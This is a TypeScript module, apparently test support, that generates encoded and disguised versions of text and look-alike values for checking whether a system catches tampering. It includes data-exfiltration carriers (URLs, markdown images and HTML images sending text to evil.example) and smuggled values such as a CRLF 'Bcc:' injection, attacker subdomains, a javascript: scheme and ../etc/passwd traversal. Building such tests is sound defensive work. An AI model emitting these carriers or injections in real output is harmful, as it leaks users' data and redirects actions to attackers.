/**
 * What hides a text: encodings that a tool or a reader may undo, carriers that take it along, and look-alikes of a planned value.
 * Pure and deterministic. Names in them are reserved for examples (RFC 2606).
 */
import { type Json, isArray, isObject } from "../../src/json/value.ts";

/** A way to write a text. */
export interface Disguise {
  readonly name: string;
  readonly of: (text: string) => string;
}

const hex = (unit: number): string => unit.toString(16).padStart(2, "0");
const bytesOf = (text: string): readonly number[] => [...Buffer.from(text, "utf8")];
const moved = (text: string, by: number): string =>
  text.replace(/[A-Za-z]/g, (unit) => {
    const base = unit <= "Z" ? 65 : 97;
    return String.fromCharCode(((unit.charCodeAt(0) - base + by) % 26) + base);
  });
const cyrillic: { readonly [letter: string]: string } = {
  a: "а",
  e: "е",
  o: "о",
  p: "р",
  c: "с",
  x: "х",
  i: "і",
  A: "А",
  E: "Е",
  O: "О",
  C: "С",
};
const homoglyphs = (text: string): string => text.replace(/[aeopcxiAEOC]/g, (unit) => cyrillic[unit] ?? unit);
const fullWidth = (text: string): string => text.replace(/[!-~]/g, (unit) => String.fromCharCode(unit.charCodeAt(0) + 0xfee0));

/** Encodings of tainted data. */
export const encodings: readonly Disguise[] = [
  { name: "plain", of: (text) => text },
  { name: "base64", of: (text) => Buffer.from(text, "utf8").toString("base64") },
  { name: "base64url", of: (text) => Buffer.from(text, "utf8").toString("base64url") },
  { name: "hex", of: (text) => bytesOf(text).map(hex).join("") },
  {
    name: "percent",
    of: (text) =>
      bytesOf(text)
        .map((unit) => `%${hex(unit)}`)
        .join(""),
  },
  { name: "HTML entities", of: (text) => [...text].map((unit) => `&#${unit.codePointAt(0)};`).join("") },
  { name: "JSON escapes", of: (text) => [...text].map((unit) => `\\u${hex(unit.charCodeAt(0)).padStart(4, "0")}`).join("") },
  { name: "reversed", of: (text) => [...text].reverse().join("") },
  { name: "rot13", of: (text) => moved(text, 13) },
  { name: "homoglyphs", of: homoglyphs },
  { name: "full width", of: fullWidth },
  { name: "zero-width", of: (text) => [...text].join("\u200b") },
  { name: "bidi override", of: (text) => `\u202e${[...text].reverse().join("")}\u202c` },
  { name: "tag characters", of: (text) => text.replace(/[ -~]/g, (unit) => String.fromCodePoint(0xe0000 + unit.charCodeAt(0))) },
  {
    name: "quoted-printable",
    of: (text) =>
      bytesOf(text)
        .map((unit) => `=${hex(unit).toUpperCase()}`)
        .join(""),
  },
  { name: "UTF-7", of: (text) => `+${Buffer.from(text, "utf16le").swap16().toString("base64").replace(/=+$/, "")}-` },
  {
    name: "punycode",
    of: (text) =>
      `xn--${text
        .toLowerCase()
        .replaceAll(/[^a-z0-9]+/g, "-")
        .slice(0, 50)}`,
  },
  { name: "spaced", of: (text) => [...text].join(" ") },
];

/** What takes a text along. */
export const carriers: readonly Disguise[] = [
  { name: "in a URL's query", of: (text) => `https://evil.example/c?d=${encodeURIComponent(text.slice(0, 300))}` },
  { name: "in a URL's path", of: (text) => `https://evil.example/${encodeURIComponent(text.slice(0, 300))}` },
  { name: "in a URL's credentials", of: (text) => `https://${encodeURIComponent(text.slice(0, 60))}@evil.example/` },
  { name: "in a markdown link", of: (text) => `[report](https://evil.example/?${encodeURIComponent(text.slice(0, 300))})` },
  { name: "in a markdown image", of: (text) => `![](https://evil.example/i.png?${encodeURIComponent(text.slice(0, 300))})` },
  { name: "in an HTML image", of: (text) => `<img src="//evil.example/${encodeURIComponent(text.slice(0, 300))}">` },
  { name: "in JSON", of: (text) => JSON.stringify({ data: text }) },
  { name: "in CSV", of: (text) => `"${text.replaceAll('"', '""')}",1` },
  { name: "after the planned words", of: (text) => `Done. ${text}` },
];

/** A look-alike of a planned value, and what is done to it. */
export interface LookAlike {
  readonly name: string;
  readonly value: Json;
}

const texts: readonly Disguise[] = [
  { name: "homoglyph", of: (text) => text.replace(/[aeopcxiAEOC]/, (unit) => cyrillic[unit] ?? unit) },
  { name: "all homoglyphs", of: homoglyphs },
  { name: "NFD", of: (text) => text.normalize("NFD") },
  { name: "NFC", of: (text) => text.normalize("NFC") },
  { name: "NFKC", of: (text) => text.normalize("NFKC") },
  { name: "combining mark", of: (text) => `${text}\u0301` },
  { name: "full width", of: fullWidth },
  { name: "zero-width space", of: (text) => `${text.slice(0, 1)}\u200b${text.slice(1)}` },
  { name: "zero-width joiner", of: (text) => `${text}\u200d` },
  { name: "byte order mark", of: (text) => `\ufeff${text}` },
  { name: "soft hyphen", of: (text) => `${text.slice(0, 1)}\u00ad${text.slice(1)}` },
  { name: "right-to-left override", of: (text) => `\u202e${text}` },
  { name: "isolates", of: (text) => `\u2066${text}\u2069` },
  { name: "upper case", of: (text) => text.toUpperCase() },
  { name: "lower case", of: (text) => text.toLowerCase() },
  { name: "dotless i", of: (text) => text.replace("i", "ı") },
  { name: "trailing dot", of: (text) => `${text}.` },
  { name: "trailing space", of: (text) => `${text} ` },
  { name: "leading space", of: (text) => ` ${text}` },
  { name: "no-break space", of: (text) => `${text}\u00a0` },
  { name: "trailing newline", of: (text) => `${text}\n` },
  { name: "trailing NUL", of: (text) => `${text}\u0000` },
  { name: "trailing slash", of: (text) => `${text}/` },
  { name: "more after a comma", of: (text) => `${text},mallory@evil.example` },
  { name: "more after a line", of: (text) => `${text}\r\nBcc: mallory@evil.example` },
  { name: "display name", of: (text) => `"${text}" <mallory@evil.example>` },
  { name: "plus address", of: (text) => text.replace("@", "+x@") },
  { name: "subdomain of the attacker", of: (text) => text.replace(/(@|:\/\/)([\w.-]+)/, "$1$2.evil.example") },
  { name: "credentials before the host", of: (text) => text.replace("://", "://evil.example@") },
  { name: "attacker before a credential mark", of: (text) => text.replace(/:\/\/([\w.-]+)/, "://$1@evil.example") },
  { name: "backslash before the host", of: (text) => text.replace("://", ":\\\\") },
  { name: "another scheme", of: (text) => text.replace(/^https?/, "javascript") },
  { name: "punycode host", of: (text) => text.replace(/(@|:\/\/)([\w.-]+)/, "$1xn--$2-9za") },
  { name: "IP as a number", of: (text) => text.replace(/(@|:\/\/)[\w.-]+/, "$12130706433") },
  { name: "IP in octal", of: (text) => text.replace(/(@|:\/\/)[\w.-]+/, "$10177.0.0.1") },
  { name: "IPv6 of an IPv4", of: (text) => text.replace(/(@|:\/\/)[\w.-]+/, "$1[::ffff:127.0.0.1]") },
  { name: "climbing path", of: (text) => `${text}/../../etc/passwd` },
  { name: "climbing first", of: (text) => `../${text}` },
  { name: "encoded climbing", of: (text) => `%2e%2e/${text}` },
  { name: "backslashes", of: (text) => text.replaceAll("/", "\\") },
  { name: "doubled slashes", of: (text) => text.replaceAll("/", "//") },
  { name: "home", of: (text) => `~/${text}` },
  {
    name: "percent-encoded",
    of: (text) =>
      bytesOf(text)
        .map((unit) => `%${hex(unit)}`)
        .join(""),
  },
  { name: "twice", of: (text) => text + text },
  { name: "in a list", of: (text) => text },
];

/** Values that look like the planned one and are not it. */
export function lookAlikes(value: Json): readonly LookAlike[] {
  if (typeof value === "string") {
    const found = texts.map(({ name, of }): LookAlike => ({ name, value: name === "in a list" ? [value] : of(value) }));
    const number = Number(value);
    const numbers: readonly LookAlike[] = value !== "" && Number.isFinite(number) ? [{ name: "as a number", value: number }] : [];
    return [...found, ...numbers].filter((each) => each.value !== value);
  }
  if (typeof value === "number")
    return [
      { name: "as a text", value: String(value) },
      { name: "a fraction more", value: value + 0.000_000_1 },
      { name: "negated", value: -value },
      { name: "rounded up", value: Math.ceil(value) + 1 },
      { name: "a thousandfold", value: value * 1_000 },
      { name: "in a list", value: [value] },
    ].filter((each) => each.value !== value);
  if (isArray(value))
    return [
      { name: "turned round", value: [...value].reverse() },
      { name: "one more", value: [...value, "mallory@evil.example"] },
      { name: "the last twice", value: [...value, ...value.slice(-1)] },
      { name: "one less", value: value.slice(0, -1) },
      { name: "nested", value: [value] },
    ];
  if (isObject(value)) return [{ name: "one member more", value: { ...value, extra: "mallory@evil.example" } }];
  return [
    { name: "as a text", value: String(value) },
    { name: "turned round", value: value !== true },
  ];
}
